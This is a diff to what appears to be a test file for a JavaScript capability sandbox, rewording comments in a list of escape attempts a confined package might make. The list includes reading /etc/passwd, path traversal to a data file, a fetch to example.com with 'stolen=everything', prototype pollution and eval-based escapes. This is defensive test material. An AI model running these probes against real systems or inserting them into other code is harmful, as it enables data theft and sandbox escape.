@@ -1,10 +1,10 @@
-// What the package is not for. Each attempt returns something if it got through, and throws if not.
+// The attacks of the package. An attempt returns a value if it succeeds, and throws if it is denied.
 import { clock, env, fs, net, random } from "cap:self";
 
 const evil = () => "evil";
 
 export const attempts = {
-  // Files, with the package's own capability: it has one, but nothing is granted to it.
+  // Files, with the package's own capability, which has no grants.
   "read /etc/passwd": () => fs.readTextFile("/etc/passwd"),
   "read the program's data": () => fs.readTextFile("data/people.csv"),
   "read it by another path": () => fs.readTextFile("out/../data/./people.csv"),
@@ -18,7 +18,7 @@ export const attempts = {
   "forge a capability": () => Object.create(Object.getPrototypeOf(fs)).readTextFile("data/people.csv"),
   "borrow a method": () => fs.readTextFile.call({}, "data/people.csv"),
 
-  // Network, environment, time, chance.
+  // Network, environment, time, randomness.
   "send a request": () => net.fetch("https://example.com/collect?stolen=everything"),
   "send it with the global fetch": () => fetch("https://example.com/collect"),
   "open a web socket": () => new WebSocket("wss://example.com/"),
@@ -34,7 +34,7 @@ export const attempts = {
   "draw random bytes": () => random.bytes(8),
   "draw from Math.random": () => Math.random(),
 
-  // Poison what everybody shares.
+  // Change objects that all modules share.
   "poison Array.prototype.map": () => (Array.prototype.map = evil),
   "poison it by defineProperty": () => Object.defineProperty(Array.prototype, "map", { value: evil }),
   "add Object.prototype.polluted": () => (Object.prototype.polluted = evil),
@@ -43,7 +43,7 @@ export const attempts = {
   "poison the array iterator": () => (Object.getPrototypeOf([][Symbol.iterator]()).next = evil),
   "replace JSON": () => {
     globalThis.JSON = { parse: evil };
-    // A module of a package has a global object of its own, and may change it. What `JSON` means, it does not change.
+    // A package may change its own global object. That does not change the variable `JSON`.
     if (JSON.parse !== evil) throw new TypeError("only this module's own globalThis has another JSON");
     return "JSON replaced";
   },
@@ -52,7 +52,7 @@ export const attempts = {
   "poison the capability": () => (fs.readTextFile = evil),
   "change the prototype of Array.prototype": () => Object.setPrototypeOf(Array.prototype, { polluted: evil }),
 
-  // Code from strings, and through constructors to whatever is behind.
+  // Code from strings, also by constructors.
   "run new Function": () => new Function("return 1")(),
   "run eval": () => (0, eval)("1 + 1"),
   "reach Function by a constructor": () => (() => {}).constructor("return globalThis")(),
@@ -65,7 +65,7 @@ export const attempts = {
     return `timer ${timer}`;
   },
 
-  // Modules that nobody gave it.
+  // Modules that were not granted to the package.
   "import node:fs": () => import("node:fs"),
   "import a computed name": () => import(["node", "fs"].join(":")),
   "import the program's module": () => import("../../../main.js"),
